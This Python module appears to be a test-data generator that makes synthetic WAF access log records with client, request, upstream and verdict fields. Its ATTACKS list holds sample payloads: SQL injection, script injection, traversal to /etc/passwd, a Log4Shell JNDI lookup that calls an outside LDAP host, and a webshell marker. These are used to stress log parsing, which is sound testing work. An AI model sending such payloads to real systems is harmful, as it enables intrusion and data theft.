"""WAF access logs, the fields of the older generation (``waf_action``, ``acl_action``, ``cc_action`` ...)."""

from __future__ import annotations

import random

from tests.data_makers import base

# What attackers send is what breaks a pipeline: quotes, markup, CDATA ends, NUL escapes, other scripts.
ATTACKS = (
    ("sqli", "id=1' OR '1'='1' --+"),
    ("xss", 'q=<script>alert("x")</script>]]>'),
    ("lfilei", "file=../../../../etc/passwd%00"),
    ("code_exec", "cmd=${jndi:ldap://203.0.113.9/a}\x01\x1b[31m"),
    ("webshell", "shell=一句话&pass=\ttest\r\n"),
)
PATHS = ("/", "/news/search.php", "/api/v1/login", "/static/app.js", "/产品/目录")


def make(rng: random.Random, t: int) -> base.Pairs:
    attack = rng.choice(ATTACKS) if rng.random() < 0.12 else None
    blocked = attack is not None and rng.random() < 0.8
    return [
        *_client(rng, t),
        *_request(rng, attack),
        *_upstream(rng, blocked),
        *_verdict(rng, attack, blocked),
    ]


def _client(rng: random.Random, t: int) -> base.Pairs:
    ip = base.public_ip(rng)
    return [
        ("owner_id", base.ACCOUNT),
        ("user_id", base.ACCOUNT),
        ("time", base.iso_china(t)),
        ("real_client_ip", ip),
        ("remote_addr", ip),
        ("remote_port", str(rng.randint(1024, 65535))),
        ("http_x_forwarded_for", rng.choice(("-", f"{ip}, {base.private_ip(rng)}"))),
        ("http_user_agent", rng.choice(base.USER_AGENTS)),
        ("ua_browser_family", rng.choice(("chrome", "internet explorer", "curl", "-"))),
        ("ua_device_type", rng.choice(("computer", "mobile", "-"))),
        ("ua_os_family", rng.choice(("windows", "linux", "android", "-"))),
    ]


def _request(rng: random.Random, attack: tuple[str, str] | None) -> base.Pairs:
    secure = rng.random() < 0.9
    return [
        ("host", rng.choice(("www.example.com", "api.example.com"))),
        ("matched_host", "*.example.com"),
        ("https", "true" if secure else "false"),
        ("ssl_protocol", "TLSv1.2" if secure else "-"),
        ("ssl_cipher", "ECDHE-RSA-AES128-GCM-SHA256" if secure else "-"),
        ("request_method", rng.choice(("GET", "GET", "GET", "POST"))),
        ("request_path", rng.choice(PATHS)),
        ("querystring", attack[1] if attack else "title=tm_content%3Darticle&pid=123"),
        ("http_referer", rng.choice(("-", "https://www.example.com/"))),
        ("http_cookie", f"k1=v1;session={base.hex_id(rng, 32)}"),
        ("content_type", rng.choice(("-", "application/json", "application/x-www-form-urlencoded"))),
        ("server_protocol", "HTTP/1.1"),
        ("request_length", str(rng.randint(200, 3000))),
        ("request_time_msec", str(rng.randint(1, 800))),
        ("request_traceid", base.hex_id(rng, 30)),
        ("region", "cn"),
    ]


def _upstream(rng: random.Random, blocked: bool) -> base.Pairs:
    """A request that was blocked never reached the origin: dashes."""
    ip = base.private_ip(rng)
    return [
        ("status", "405" if blocked else rng.choice(("200", "200", "200", "302", "404", "502"))),
        ("body_bytes_sent", str(rng.randint(0, 90_000))),
        ("upstream_addr", "-" if blocked else f"{ip}:443"),
        ("upstream_ip", "-" if blocked else ip),
        ("upstream_status", "-" if blocked else "200"),
        ("upstream_response_time", "-" if blocked else f"{rng.random():.3f}"),
    ]


def _verdict(rng: random.Random, attack: tuple[str, str] | None, blocked: bool) -> base.Pairs:
    return [
        ("waf_action", "block" if blocked else "-"),
        ("block_action", "waf" if blocked else ""),
        ("web_attack_type", attack[0] if attack else "-"),
        ("waf_rule_id", str(rng.randint(100_000, 130_000)) if attack else "-"),
        ("acl_action", rng.choice(("pass", "-", ""))),
        ("acl_blocks", "0"),
        ("antibot", "-"),
        ("antibot_action", "-"),
        ("cc_action", "none"),
        ("cc_blocks", "-"),
        ("cc_phase", "-"),
    ]


# Topic: documented. Source and group size: inferred.
MAKER = base.LogMaker("waf", "waf_access_log", "log_service", make, logs_per_group=(10, 120))
